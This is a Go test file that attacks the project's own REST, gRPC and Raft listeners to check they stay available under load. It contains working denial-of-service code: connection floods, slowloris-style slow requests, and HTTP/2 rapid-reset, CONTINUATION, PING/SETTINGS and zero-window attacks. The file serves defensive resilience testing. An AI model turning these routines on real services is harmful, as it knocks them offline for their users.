package attacks

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/domicile-io/domicile/internal/mtls"
)

func TestINV41_FloodsAndSlowClientsLeaveTheOthersAlone(t *testing.T) {
	s := open(t)
	roots, err := mtls.LoadRoots(s.ca)
	check(t, err)
	h1 := &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12, NextProtos: []string{"http/1.1"}}
	h2 := &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"}}
	over := func(conf *tls.Config) func(context.Context) (net.Conn, error) {
		return func(ctx context.Context) (net.Conn, error) {
			return (&tls.Dialer{Config: conf}).DialContext(ctx, "tcp", s.rest)
		}
	}
	plain := func(address string) func(context.Context) (net.Conn, error) {
		return func(ctx context.Context) (net.Conn, error) { return (&net.Dialer{}).DialContext(ctx, "tcp", address) }
	}

	s.attack("connections that say nothing", func(ctx context.Context) string { return crowd(ctx, 600, over(h1), nil) })
	s.attack("connections without a handshake", func(ctx context.Context) string { return crowd(ctx, 600, plain(s.rest), nil) })
	s.attack("gRPC connections without a handshake", func(ctx context.Context) string { return crowd(ctx, 400, plain(s.grpc), nil) })
	s.attack("Raft connections without a handshake", func(ctx context.Context) string { return crowd(ctx, 400, plain(s.raft), nil) })
	s.attack("noise on the Raft port", func(ctx context.Context) string {
		return crowd(ctx, 200, plain(s.raft), func(c net.Conn) error { _, err := c.Write(bytes.Repeat([]byte{0x16, 3, 1}, 100)); return err })
	})
	s.attack("slow headers", func(ctx context.Context) string {
		return crowd(ctx, 300, over(h1), drip("GET /v1/regions HTTP/1.1\r\nHost: "+private+"\r\nX-Filler: ", "a"))
	})
	s.attack("slow bodies", func(ctx context.Context) string {
		return crowd(ctx, 300, over(h1), drip("POST /v1/tenants HTTP/1.1\r\nHost: control\r\nContent-Length: 1000000\r\n\r\n{", " "))
	})
	s.attack("slow chunks", func(ctx context.Context) string {
		return crowd(ctx, 300, over(h1), drip("POST /v1/tenants HTTP/1.1\r\nHost: control\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\n \r\n"))
	})
	s.attack("rapid reset", func(ctx context.Context) string { return frames(ctx, over(h2), rapidReset) })
	s.attack("CONTINUATION without an end", func(ctx context.Context) string { return frames(ctx, over(h2), endlessHeaders) })
	s.attack("SETTINGS and PING floods", func(ctx context.Context) string { return frames(ctx, over(h2), pings) })
	s.attack("streams that never end", func(ctx context.Context) string { return frames(ctx, over(h2), openStreams) })
	s.attack("answers that nobody reads", func(ctx context.Context) string { return frames(ctx, over(h2), closedWindow) })
}

// crowd opens many connections, lets each do something once and then again, and
// keeps them until the attack ends. Its witness is how many stood.
func crowd(ctx context.Context, n int, dial func(context.Context) (net.Conn, error), do func(net.Conn) error) string {
	var stood, cut atomic.Int64
	var all sync.WaitGroup
	gate := make(chan struct{}, 32) // handshakes at once: this machine is the attacker's too
	for range n {
		all.Add(1)
		go func() {
			defer all.Done()
			gate <- struct{}{}
			c, err := dial(ctx)
			<-gate
			if err != nil {
				return
			}
			defer c.Close()
			stood.Add(1)
			for do != nil && ctx.Err() == nil {
				_ = c.SetWriteDeadline(time.Now().Add(time.Second))
				if do(c) != nil {
					cut.Add(1)
					break
				}
				select {
				case <-ctx.Done():
				case <-time.After(200 * time.Millisecond):
				}
			}
			<-ctx.Done()
		}()
	}
	all.Wait()
	return fmt.Sprintf("%d connections of %d stood, %d were cut", stood.Load(), n, cut.Load())
}

// drip sends the start once and then a little at a time.
func drip(start, more string) func(net.Conn) error {
	var begun sync.Map
	return func(c net.Conn) error {
		text := more
		if _, before := begun.LoadOrStore(c, true); !before {
			text = start
		}
		_, err := io.WriteString(c, text)
		return err
	}
}

// frames makes HTTP/2 connections, four at a time, each of which does one
// attack until it is cut, and then another.
func frames(ctx context.Context, dial func(context.Context) (net.Conn, error), do func(context.Context, *http2.Framer) int) string {
	var sent, connections atomic.Int64
	var all sync.WaitGroup
	for range 4 {
		all.Add(1)
		go func() {
			defer all.Done()
			for ctx.Err() == nil {
				c, err := dial(ctx)
				if err != nil {
					continue
				}
				connections.Add(1)
				_ = c.SetDeadline(time.Now().Add(duration))
				_, _ = io.WriteString(c, http2.ClientPreface)
				f := http2.NewFramer(c, c)
				_ = f.WriteSettings()
				sent.Add(int64(do(ctx, f)))
				_ = c.Close()
			}
		}()
	}
	all.Wait()
	return fmt.Sprintf("%d frames on %d connections", sent.Load(), connections.Load())
}

// head is the header block of a request without a token.
func head(path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", private}, {":path", path}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return b.Bytes()
}

// drain reads and drops what comes, so that the attacker's window stays open.
func drain(f *http2.Framer) {
	for {
		if _, err := f.ReadFrame(); err != nil {
			return
		}
	}
}

func rapidReset(ctx context.Context, f *http2.Framer) (n int) {
	go drain(f)
	block := head("/v1/regions")
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
			f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return n
		}
		n += 2
	}
	return n
}

func endlessHeaders(ctx context.Context, f *http2.Framer) (n int) {
	go drain(f)
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head("/v1/regions")}) != nil {
		return 0
	}
	var b bytes.Buffer
	_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: "x-filler", Value: string(bytes.Repeat([]byte("a"), 8000))})
	for ctx.Err() == nil && f.WriteContinuation(1, false, b.Bytes()) == nil {
		n++
	}
	return n
}

func pings(ctx context.Context, f *http2.Framer) (n int) {
	for ctx.Err() == nil { // nothing is read: the answers queue on the other side
		if f.WritePing(false, [8]byte{1}) != nil || f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}) != nil {
			return n
		}
		n += 2
	}
	return n
}

func openStreams(ctx context.Context, f *http2.Framer) (n int) {
	go drain(f)
	block := head("/v1/tenants")
	for id := uint32(1); ctx.Err() == nil && n < 2000; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil {
			return n
		}
		n++
	}
	<-ctx.Done()
	return n
}

func closedWindow(ctx context.Context, f *http2.Framer) (n int) {
	go drain(f)
	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	block := head("/openapi.json")
	for id := uint32(1); ctx.Err() == nil && n < 200; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil {
			return n
		}
		n++
	}
	<-ctx.Done()
	return n
}
